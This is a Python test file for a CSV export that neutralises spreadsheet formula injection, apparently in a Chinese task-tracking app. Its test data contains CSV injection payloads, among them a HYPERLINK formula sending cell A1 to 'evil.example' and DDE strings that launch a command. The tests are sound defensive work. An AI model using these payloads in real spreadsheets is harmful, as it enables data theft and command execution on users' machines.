"""CSV for spreadsheets: a cell from a document is a text there and never a formula."""

import csv
import io
from typing import get_type_hints

import pytest

from api.ask.sheets import to_csv
from api.words import words
from queries.rows import TaskRow


def cell(value: object) -> str:
    """The second cell of a row, as a program reads it."""
    rows = list(csv.reader(io.StringIO(to_csv([{"first": "县", "second": value}]), newline="")))
    return rows[1][1]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "-1-1",
        "+1A",
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell((text, "县林业局")) == f"'{text}、县林业局"


@pytest.mark.parametrize(
    "text", ["-", "-5", "+8613800000000", "-3.5%", "1,000", "县林业局", "6月=7月", "'", "——", "（-）", ""]
)
def test_numbers_and_other_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_no_separator_of_any_country_begins_a_cell_of_its_own() -> None:
    assert '"修渠;=1+1"' in to_csv([{"task": "修渠;=1+1"}])


def test_a_number_is_a_number() -> None:
    assert cell(-3) == "-3"
    assert cell(-0.5) == "-0.5"


def test_a_clerk_reads_chinese_headings_and_words_and_a_program_its_own() -> None:
    row = {"task_id": "t1", "lead_units": ("司法所", "派出所"), "ongoing": False, "due_kind": "point"}
    chinese = list(csv.reader(io.StringIO(to_csv([row], "zh"), newline="")))
    assert chinese == [["任务标识", "牵头单位", "长期", "时限类别"], ["t1", "司法所、派出所", "否", "定期"]]
    english = list(csv.reader(io.StringIO(to_csv([row]), newline="")))
    assert english == [["task_id", "lead_units", "ongoing", "due_kind"], ["t1", "司法所、派出所", "False", "point"]]


def test_every_column_of_tasks_has_a_chinese_heading() -> None:
    assert [name for name in get_type_hints(TaskRow) if words.sheet_header("zh", name) == name] == []
